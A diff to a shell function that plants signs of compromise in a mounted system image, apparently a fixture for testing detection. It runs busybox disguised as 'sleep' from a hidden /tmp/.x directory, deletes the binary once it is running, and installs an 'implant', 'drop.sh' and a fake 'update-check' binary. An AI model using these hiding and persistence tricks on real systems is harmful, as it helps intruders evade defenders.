@@ -69,9 +69,14 @@ plant() {
 	local m=$1
 	shift
 	# the process first (before busybox becomes setuid)
-	"$@" sh -c 'mkdir -p /tmp/.x && cp /bin/busybox /tmp/.x/sleep &&
-		(/tmp/.x/sleep 100000 </dev/null >/dev/null 2>&1 &) && sleep 0.5 && rm -f /tmp/.x/sleep' \
-		</dev/null >/dev/null 2>&1 || return 1
+	# (deleted once it runs from it: no fixed sleep, a loaded machine execs late)
+	"$@" sh -c 'mkdir -p /tmp/.x && cp /bin/busybox /tmp/.x/sleep || exit 1
+		/tmp/.x/sleep 100000 </dev/null >/dev/null 2>&1 &
+		k=$! i=0
+		until [ "$(readlink /proc/$k/exe)" = /tmp/.x/sleep ]; do
+			i=$((i + 1)); [ $i -lt 300 ] || exit 1; sleep 0.1
+		done
+		rm -f /tmp/.x/sleep' </dev/null >/dev/null 2>&1 || return 1
 	cp "$W/implant" "$m/tmp/implant" && chmod 0755 "$m/tmp/implant" &&
 		install -m 0755 "$W/drop.sh" "$m/tmp/drop.sh" &&
 		mkdir -p "$m/usr/local/bin" && install -m 0755 "$W/update-check" "$m/usr/local/bin/update-check" &&
